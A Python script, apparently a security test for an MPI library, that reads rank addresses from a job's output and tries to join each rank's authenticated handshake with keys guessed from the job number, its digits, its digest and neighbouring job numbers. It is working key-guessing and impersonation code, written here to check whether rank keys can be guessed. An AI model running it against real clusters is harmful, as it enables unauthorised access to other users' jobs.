# SPDX-License-Identifier: BSD-3-Clause
"""A stranger connects to the ranks of keyed.c with keys that it derives from the number of the job: key_attack.py OUT [KEY].

OUT: the output of the ranks.  KEY: hexadecimal digits of a known key, to check that the attack works with the right key.
Prints "joined" or "refused" for each rank, and the number of keys that were tried."""
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "trust"))
from peer import *  # noqa: E402,F403

LO4, IP4 = 3, 32  # codes in a name of the provider (src/mpi/ofi/name.c)


def place(address):
    """Return (identity, host, port) from an address of the library, or from a name of the provider."""
    if address[0] == 2 and len(address) >= 32 and int.from_bytes(address[2:4], "little") == len(address):
        return uid(address), *tcp_of(address)
    identity, code, rest = address[1:17], address[17], address[18:]
    if code == LO4:
        return identity, "127.0.0.1", int.from_bytes(rest[8:10], "little")
    if IP4 <= code <= IP4 + 32:
        return identity, socket.inet_ntoa(rest[2:6]), int.from_bytes(rest[:2], "little")
    sys.exit("no way of tcp in " + address.hex())


def guesses(number):
    """Yield keys that follow from the number: the number itself, as component and provider used it; its digits; its
    digest; and the same for neighbouring jobs."""
    text = number.encode()
    digits = number.replace("-", "")
    yield text
    yield bytes.fromhex(digits)
    yield digits.encode()
    yield hashlib.sha256(text).digest()
    family = int(number[:8], 16)
    for near in range(family - 8, family + 8):
        for local in range(4):
            yield ("%08x%s-%08x%s" % (near, number[8:16], local, number[25:33])).encode()


def joins(identity, where, key):
    own = make_address(os.urandom(16), [SELF])
    with socket.create_connection(where, 5) as s:
        s.settimeout(5)
        try:
            shake_as(s, identity, own, derive(key, b"madeleine rank key"))
        except (ConnectionError, EOFError, TimeoutError):
            return False
    return True


def shake_as(s, identity, own, key):
    hello = hello_frame(identity, uid(own))
    s.sendall(hello)
    kind, challenge = read_frame(s)
    if kind != CHALLENGE:
        raise ConnectionError("no challenge")
    prove(s, own, (hello, frame(CHALLENGE, challenge)), key=key)


def main():
    with open(sys.argv[1]) as f:
        ranks = [line.split() for line in f if line.startswith("rank ")]
    tried = 0
    for _, rank, _, number, _, address in ranks:
        identity, host, port = place(bytes.fromhex(address))
        keys = [bytes.fromhex(sys.argv[2])] if len(sys.argv) > 2 else guesses(number)
        found = False
        for key in keys:
            tried += 1
            found = found or joins(identity, (host, port), key)
        print("rank %s: %s" % (rank, "joined" if found else "refused"))
    print("keys tried: %d" % tried)


main()
